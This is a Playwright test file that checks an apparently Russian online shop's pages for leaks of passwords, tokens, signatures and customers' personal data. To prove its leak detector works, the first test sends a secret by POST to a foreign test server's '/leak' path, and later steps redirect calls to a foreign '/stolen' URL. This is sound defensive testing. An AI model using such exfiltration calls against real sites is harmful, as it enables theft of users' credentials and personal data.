import type { Page } from '@playwright/test'
import { changed } from '../faults/faults'
import { expect, test as base } from '../faults/faulty'
import { makeHostile } from '../hostile/page'
import { ForeignServer } from './foreign'
import type { Recorded } from './recorder'
import { nothing, Sinks, type Secrets } from './sinks'

/** A customer whom the sandbox knows. */
const ANNA = { email: 'anna.kovaleva@example.ru', password: 'linza2025' }

const test = base.extend<{ foreign: ForeignServer }>({
  // eslint-disable-next-line no-empty-pattern
  foreign: async ({}, provide) => {
    const foreign = await ForeignServer.open()
    await provide(foreign)
    await foreign.close()
  },
})

const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name })
const field = (page: Page, name: string | RegExp) => page.getByRole('textbox', { name })
const inDialog = (page: Page, name: string) => page.getByRole('dialog').getByRole('button', { name }).click()
const enter = (page: Page, token: string) =>
  page.evaluate((value) => localStorage.setItem('example-shop:token', value), token)

/** Removes the signature from the URL of a receipt, which comes from the shop, and from the call that repeats it. */
function withoutReceipt(url: URL): URL {
  if (/\/ozon\/apply\/$|\/receipt\.html$/.test(url.pathname)) url.searchParams.delete('sign')
  return url
}

test('a value that leaks is noticed at each of the seven sinks', async ({ page, context, foreign }) => {
  const leaked = 'утечка-4711'
  const sinks = await Sinks.watch(page, { secret: { leaked }, personal: {} }, (url) => url)
  await context.grantPermissions(['local-network-access'])
  await makeHostile(page, { isOld: true })
  await page.goto('/examples/plain.html')
  await page.evaluate(
    async ([secret = '', address = '']) => {
      const { ym, __REDUX_DEVTOOLS_EXTENSION__: devtools } = window as unknown as Recorded
      localStorage.setItem('leak', secret)
      history.replaceState(secret, '')
      ym(secret)
      dispatchEvent(new CustomEvent('lens:leak', { detail: { secret } }))
      devtools()((reducer) => reducer(undefined, { type: secret }))(() => null)
      await fetch(address, { method: 'POST', body: secret })
      console.log(secret)
    },
    [leaked, `${foreign.address}/leak`],
  )
  foreign.heard.forEach((request) => sinks.tell('foreign', request))
  await expect.poll(() => Object.values(sinks.found()).every((leaks) => leaks.length > 0)).toBe(true)
})

test('secrets and personal data appear only in the calls they belong to', async ({
  page,
  context,
  shop,
  server,
  foreign,
}) => {
  test.setTimeout(360_000)
  shop.expectErrors(/Failed to load|40\d|422|CORS|redirect/)
  const mark = String(Date.now()).slice(-7)
  const secrets: Secrets = {
    secret: {
      csrf: `csrf-${mark}`,
      password: `пароль-${mark}`,
      'new password': `новый пароль-${mark}`,
      signature: `sign-${mark}`,
      'password of Anna': ANNA.password,
    },
    personal: {
      phone: `903${mark}`,
      'new phone': `904${mark}`,
      'e-mail': `irina-${mark}@pochta.ru`,
      'new e-mail': `ira-${mark}@pochta.ru`,
      name: `Иринка${mark}`,
      street: `Тайный переулок ${mark}`,
      feedback: `жалоба ${mark}`,
      'phone of Anna': '9161234567',
      'street of Anna': 'Лесная улица',
    },
  }
  const { secret, personal } = secrets
  const sinks = await Sinks.watch(page, secrets, withoutReceipt)
  // Chromium would ask before it lets a page reach a server of this machine.
  await context.grantPermissions(['local-network-access'])
  // The shop forbids its page to reach other servers; here nothing but our own care does.
  await makeHostile(page, {
    isOld: true,
    after: `window.pageConfig.csrfToken = '${secret['csrf']}'; window.pageConfig.metricsId = 1`,
  })
  const redirected = ({ send }: { send: (answer: object) => void }) =>
    send({
      status: 307,
      headers: { Location: `${foreign.address}/stolen`, 'Access-Control-Allow-Origin': '*' },
    })

  await test.step('registration', async () => {
    await page.addInitScript(
      () => localStorage.getItem('example-shop:token') ?? localStorage.setItem('example-shop:token', ''),
    )
    await shop.visit('/examples/login.html')
    await button(page, 'Войти').click()
    await inDialog(page, 'Регистрация')
    await field(page, 'Телефон').fill(personal['phone'] ?? '')
    await inDialog(page, 'Получить код')
    await field(page, 'Код из SMS').fill('1234')
    await field(page, 'Имя').fill(personal['name'] ?? '')
    await field(page, 'Фамилия').fill('Белова')
    await field(page, 'Дата рождения').pressSequentially('21081995')
    await field(page, 'Электронная почта').fill(personal['e-mail'] ?? '')
    await page.getByLabel('Пароль', { exact: true }).fill(secret['password'] ?? '')
    await page.getByRole('checkbox', { name: /Согласен с политикой/ }).check()
    server.break('POST /auth/consumer/register/', redirected)
    await inDialog(page, 'Зарегистрироваться')
    await expect(page.getByText('Сервис временно недоступен. Попробуйте ещё раз')).toBeVisible()
    await sinks.look()
    server.heal()
    const reloaded = page.waitForEvent('load')
    await inDialog(page, 'Зарегистрироваться')
    await reloaded
    await sinks.look()
  })

  await test.step('phone, e-mail, password, address, name', async () => {
    await page.goto('/personal/profile/')
    await button(page, 'Изменить пароль').click()
    await page.getByLabel('Текущий пароль').fill(ANNA.password)
    await page.getByLabel('Новый пароль').fill(secret['new password'] ?? '')
    await sinks.look()
    await button(page, 'Сменить пароль').click()
    await expect(page.getByText('Пароль изменён')).toBeVisible()

    await button(page, 'Изменить телефон').click()
    await field(page, 'Новый номер').fill(personal['new phone'] ?? '')
    await button(page, 'Получить звонок').click()
    await field(page, 'Последние цифры номера').fill('5678')
    await expect(page.getByText('Телефон изменён')).toBeVisible()

    await button(page, 'Изменить почту').click()
    await field(page, 'Новый адрес').fill(personal['new e-mail'] ?? '')
    await button(page, 'Сохранить адрес').click()
    await expect(page.getByText('Почта изменена')).toBeVisible()

    await button(page, 'Добавить адрес').click()
    await page.getByRole('combobox', { name: 'Город или посёлок' }).fill('Верея')
    await field(page, 'Улица').fill(personal['street'] ?? '')
    await field(page, /^Дом$/).fill('7')
    server.break('POST /delivery_address/', redirected)
    await button(page, 'Сохранить адрес').click()
    await expect(page.getByRole('dialog').getByText('Сервис временно недоступен')).toBeVisible()
    server.heal()
    await button(page, 'Сохранить адрес').click()
    await expect(page.getByRole('dialog')).toHaveCount(0)

    await field(page, /^Отчество/).fill(personal['name'] ?? '')
    await page.keyboard.press('Enter')
    await expect(page.getByText('Изменения сохранены')).toBeVisible()
    await sinks.look()
  })

  await test.step('receipts of a link, and a complaint', async () => {
    const query = `code=${mark}&sign=${secret['signature']}&products[0]=Линзы&task=check_from_link`
    await page.goto(`/examples/receipt.html?${query}`)
    await inDialog(page, 'Закрыть')
    await inDialog(page, 'Закрыть')
    await expect(page).toHaveURL('/examples/receipt.html')
    await sinks.look()
    await page.goto('/examples/receipt.html?task=check_from_link&partner=unknown&products[0]=Линзы')
    await page.getByLabel(/Опишите вашу ситуацию/).fill(personal['feedback'] ?? '')
    await sinks.look()
    await button(page, 'Отправить').click()
    await expect(page.getByText('Спасибо, ваше сообщение было успешно отправлено!')).toBeVisible()
    await sinks.look()
  })

  await test.step('an order', async () => {
    await enter(page, `basket.${mark}`)
    await page.goto('/examples/checkout.html')
    await page.getByRole('combobox', { name: 'Время' }).selectOption('10:00–14:00')
    await field(page, 'Имя и фамилия').fill(personal['name'] ?? '')
    await field(page, 'Телефон').fill(personal['phone'] ?? '')
    await field(page, /^Комментарий/).fill(personal['feedback'] ?? '')
    await page.getByRole('radio', { name: 'Картой при получении' }).check()
    await page.getByRole('checkbox', { name: /^Согласен с/ }).check()
    await sinks.look()
    await button(page, 'Оформить заказ').click()
    await expect(page.getByRole('heading', { name: /оформлен$/ })).toBeVisible()
    await sinks.look()
  })

  await test.step('activation and logout, each with a fresh token', async () => {
    await enter(page, `token-refresh.${mark}`)
    await page.goto('/personal/')
    await button(page, 'тут').click()
    await page.getByRole('checkbox', { name: /Согласен/ }).check()
    await button(page, 'Активировать').click()
    await expect(page.getByRole('heading', { level: 1, name: /Здравствуйте/ })).toBeVisible()
    await button(page, 'Выйти').click()
    await expect(button(page, 'Войти')).toBeVisible()
    await sinks.look()
  })

  await test.step('login by password, and what leads to other sites', async () => {
    const links = changed((value, key) =>
      ['picture', 'tracking_url', 'link'].includes(key) ? `${foreign.address}/${key}` : value,
    )
    server.break('GET /internal/account/', redirected)
    // The sandbox would sign in the account that this browser used last, which has no orders.
    await context.clearCookies()
    await page.goto('/personal/profile/')
    await expect(page.getByText('Личный кабинет не загрузился')).toBeVisible()
    server.heal()
    await button(page, 'Войти').click()
    await page.getByRole('tab', { name: 'По почте' }).click()
    await field(page, 'Электронная почта').fill(ANNA.email)
    await page.getByLabel('Пароль', { exact: true }).fill(ANNA.password)
    await inDialog(page, 'Войти')
    await expect(page.getByText('Лесная улица').first()).toBeVisible()
    server.break('GET /internal/personal/orders/', links)
    server.break('GET /payment/48209/link/', links)
    await page.goto('/personal/orders/?order=48213')
    await expect.poll(() => foreign.heard.some((request) => request.includes('/picture'))).toBe(true)
    const opened = context.waitForEvent('page')
    await page
      .getByRole('link', { name: /Отследить/ })
      .first()
      .click()
    const tracking = await opened
    await tracking.waitForLoadState()
    expect(await tracking.evaluate(() => [document.referrer, window.opener as unknown])).toEqual(['', null])
    await tracking.close()
    for (const section of ['Главная', 'Мои продукты', 'Мои данные', 'Заказы']) {
      await page
        .getByRole('navigation', { name: 'Личный кабинет' })
        .getByRole('link', { name: section, exact: true })
        .click()
      await expect(page).toHaveTitle(new RegExp(`^${section}`))
    }
    await sinks.look()
    await button(page, 'Оплатить заказ № 48209').click()
    await page.waitForURL(`${foreign.address}/**`)
    expect(await page.evaluate(() => document.referrer)).toBe(`${server.address}/`)
    await page.goto('/personal/')
    await button(page, 'Выйти').click()
    await expect(button(page, 'Войти')).toBeVisible()
  })

  await sinks.look()
  foreign.heard.forEach((request) => sinks.tell('foreign', request))
  expect(sinks.found()).toEqual(nothing)
  // The other origin got requests for pictures and links, but no call that was redirected to it.
  const reached = new Set(foreign.heard.map((request) => request.split(' ')[1]))
  reached.delete('/favicon.ico')
  expect([...reached]).toEqual(['/picture', '/tracking_url', '/link'])
  expect(
    await page.evaluate(() => Object.keys(sessionStorage).filter((key) => key.includes('draft'))),
  ).toEqual([])
})
